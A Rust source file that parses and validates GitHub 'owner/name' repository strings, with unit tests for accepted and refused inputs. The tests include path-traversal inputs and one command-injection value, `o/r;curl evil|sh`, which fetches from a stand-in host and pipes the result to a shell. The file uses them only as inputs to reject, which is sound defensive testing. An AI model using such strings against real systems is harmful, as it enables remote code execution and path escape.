//! The full name of a repository, as strangers and configurations write it.

use serde::{Deserialize, Serialize};

use super::shown;

/// GitHub's longest name of an account; with enterprise-managed users a `_` and a short code follow.
const LONGEST_OWNER: usize = 48;
/// GitHub's longest name of a repository.
const LONGEST_NAME: usize = 100;

/// Owner and name of a repository, as in `octo-org/example`, spelled as it was written.
///
/// GitHub does not tell upper from lower case, so two spellings of one name are equal only by [`Repository::is`]. There is no
/// comparison by parts: who owns a repository says nothing about the next one.
#[derive(Clone, Debug, Deserialize, Eq, Hash, Ord, PartialEq, PartialOrd, Serialize)]
#[serde(try_from = "String", into = "String")]
pub struct Repository(String);

impl Repository {
    /// Checks a name as a whole.
    ///
    /// # Errors
    ///
    /// One sentence with the fault and the way out. Refused is whatever could lead elsewhere in the path of a request: more or
    /// fewer than two parts, `.`, `..`, blanks, `%`, and everything outside ASCII.
    pub fn parse(text: &str) -> Result<Self, String> {
        let fault = |what: &str| Err(format!("The repository {} {what}", shown(text)));
        let Some((owner, name)) = text.split_once('/') else {
            return fault("has no `/`: write owner and name, as in `octo-org/example`");
        };
        if owner.is_empty() || owner.len() > LONGEST_OWNER || name.is_empty() || name.len() > LONGEST_NAME {
            return fault("has a part that is empty or too long: write owner and name, as in `octo-org/example`");
        }
        let is_owner = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_');
        let is_name = |b: u8| is_owner(b) || b == b'.';
        if owner.starts_with('-') || !owner.bytes().all(is_owner) || !name.bytes().all(is_name) {
            return fault("has a character that no name on GitHub has: write it as in the browser");
        }
        if matches!(name, "." | "..") {
            return fault("names a directory and no repository: write owner and name, as in `octo-org/example`");
        }
        Ok(Self(text.into()))
    }

    /// The name as it was written.
    #[must_use]
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// Whether both are the same repository to GitHub.
    #[must_use]
    pub fn is(&self, other: &Self) -> bool {
        self.0.eq_ignore_ascii_case(&other.0)
    }

    /// Owner and name.
    #[must_use]
    pub fn parts(&self) -> (&str, &str) {
        self.0.split_once('/').unwrap_or((&self.0, ""))
    }
}

impl TryFrom<String> for Repository {
    type Error = String;

    fn try_from(text: String) -> Result<Self, String> {
        Self::parse(&text)
    }
}

impl From<Repository> for String {
    fn from(repository: Repository) -> Self {
        repository.0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_has_two_parts_of_githubs_characters() {
        for text in ["octo-org/example", "a/b", "Octo_short/.github", "o/a.b_c-d", "o/..."] {
            assert_eq!(Repository::parse(text).unwrap().as_str(), text);
        }
        assert_eq!(Repository::parse("o/r").unwrap().parts(), ("o", "r"));
    }

    #[test]
    fn names_that_lead_elsewhere_are_refused_each_with_its_reason() {
        let (long, longer) = (format!("{}/r", "o".repeat(49)), format!("o/{}", "r".repeat(101)));
        for (text, part) in [
            ("", "has no `/`"),
            ("example", "has no `/`"),
            ("/example", "empty or too long"),
            ("octo-org/", "empty or too long"),
            (&long, "empty or too long"),
            (&longer, "empty or too long"),
            ("o/r/actions", "has a character"),
            ("o//r", "has a character"),
            ("../r", "has a character"),
            ("-o/r", "has a character"),
            ("o/..", "names a directory"),
            ("o/.", "names a directory"),
            ("o/r?x", "has a character"),
            ("o/r#x", "has a character"),
            ("o/%2e%2e", "has a character"),
            ("o/r\n", "has a character"),
            ("o/r\0", "has a character"),
            ("o /r", "has a character"),
            ("o/ŕ", "has a character"),
            ("o/r;curl evil|sh", "has a character"),
        ] {
            let error = Repository::parse(text).unwrap_err();
            assert!(error.contains(part) && error.contains("write"), "{text:?}: {error}");
            assert!(!error.contains(['\n', '\0']) && error.len() < 350, "{error}");
        }
    }

    #[test]
    fn one_repository_has_many_spellings_and_a_longer_name_is_another_one() {
        let parse = |text| Repository::parse(text).unwrap();
        assert!(parse("Octo-Org/Example").is(&parse("octo-org/example")));
        assert!(!parse("octo-org/example").is(&parse("octo-org/example-2")));
        assert!(!parse("octo-org/example").is(&parse("octo-org2/example")));
    }

    #[test]
    fn what_is_read_is_checked_as_well() {
        assert!(serde_json::from_str::<Repository>(r#""o/r""#).is_ok());
        assert!(serde_json::from_str::<Repository>(r#""o/../r""#).is_err());
    }
}
